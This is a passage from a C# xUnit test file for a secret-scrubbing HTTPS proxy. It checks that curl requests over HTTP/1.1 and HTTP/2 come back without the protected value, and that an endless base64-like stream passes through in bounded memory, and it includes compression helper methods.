        Assert.Contains(_f.Value, direct.Stdout, StringComparison.Ordinal); // control: the mode carries the value

        foreach (var version in new[] { "--http1.1", "--http2" })
        {
            var result = await Cli.RunProgramAsync("curl",
                ["-sS", version, "-i", "--max-time", "30", "--proxy", _f.Proxy.ProxyUrl, "--cacert", _f.Proxy.CaPath, _f.Url("/hints/" + version.Trim('-'))],
                _f.Dir.Path, null);
            Assert.EndsWith("ok", result.Stdout, StringComparison.Ordinal);
            Assert.DoesNotContain(_f.Value, result.All, StringComparison.Ordinal);
        }
    }

    /// <summary>
    /// HELD: an endless response of base64-alphabet characters with no length and no line break (every byte could
    /// start a base64 run that hides the value, so a scrubber that held runs back would buffer it all) streams through
    /// whole, and the proxy's memory stays flat: 64 MiB arrive, resident memory grows by far less.
    /// </summary>
    [Fact]
    public async Task An_endless_run_of_base64_alphabet_streams_through_in_bounded_memory()
    {
        using var client = ProxyClients.Create(_f.Proxy.ProxyUrl, _f.Proxy.CaPath);
        var before = _f.Proxy.RssBytes();
        using var response = await client.GetAsync(_f.Url("/endless"), HttpCompletionOption.ResponseHeadersRead);
        await using var stream = await response.Content.ReadAsStreamAsync();
        var buffer = new byte[64 * 1024];
        long total = 0;
        long peak = before;
        int n;
        while ((n = await stream.ReadAsync(buffer)) > 0)
        {
            total += n;
            if (total % (4 * 1024 * 1024) < n)
            {
                peak = Math.Max(peak, _f.Proxy.RssBytes());
            }
        }

        Assert.Equal(Round7Origin.EndlessBytes, total);
        Assert.True(peak - before < 48L * 1024 * 1024, $"proxy RSS grew by {(peak - before) / (1024 * 1024)} MiB while streaming 64 MiB");
    }

    private Task<CommandResult> Curl(string version, params string[] args) =>
        Cli.RunProgramAsync("curl",
            ["-sS", version, "--max-time", "30", "--proxy", _f.Proxy.ProxyUrl, "--cacert", _f.Proxy.CaPath, "-o", "/dev/null", "-w", "%{http_code}", .. args],
            _f.Dir.Path, null);

    private async Task<System.Text.Json.JsonElement?> WaitForEventOrNullAsync(Func<System.Text.Json.JsonElement, bool> predicate)
    {
        try
        {
            return await _f.Proxy.WaitForEventAsync(predicate, 3000);
        }
        catch (TimeoutException)
        {
            return null;
        }
    }

    private static byte[] Gzip(byte[] data)
    {
        using var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(data);
        }

        return output.ToArray();
    }

    private static byte[] Brotli(byte[] data)
    {
        using var output = new MemoryStream();
        using (var brotli = new BrotliStream(output, CompressionLevel.Fastest, leaveOpen: true))
        {
            brotli.Write(data);
        }

        return output.ToArray();
    }

    private static byte[] Zlib(byte[] data)
    {
        using var output = new MemoryStream();
        using (var zlib = new ZLibStream(output, CompressionLevel.Fastest, leaveOpen: true))
        {
            zlib.Write(data);
        }

        return output.ToArray();
    }

    private static string Gunzip(byte[] data)
    {
        try
        {
            using var input = new MemoryStream(data);
            using var gzip = new GZipStream(input, CompressionMode.Decompress);
            using var reader = new StreamReader(gzip, Encoding.Latin1);
            return reader.ReadToEnd();
        }
        catch (InvalidDataException)
        {
            return Encoding.Latin1.GetString(data);
        }
    }
}
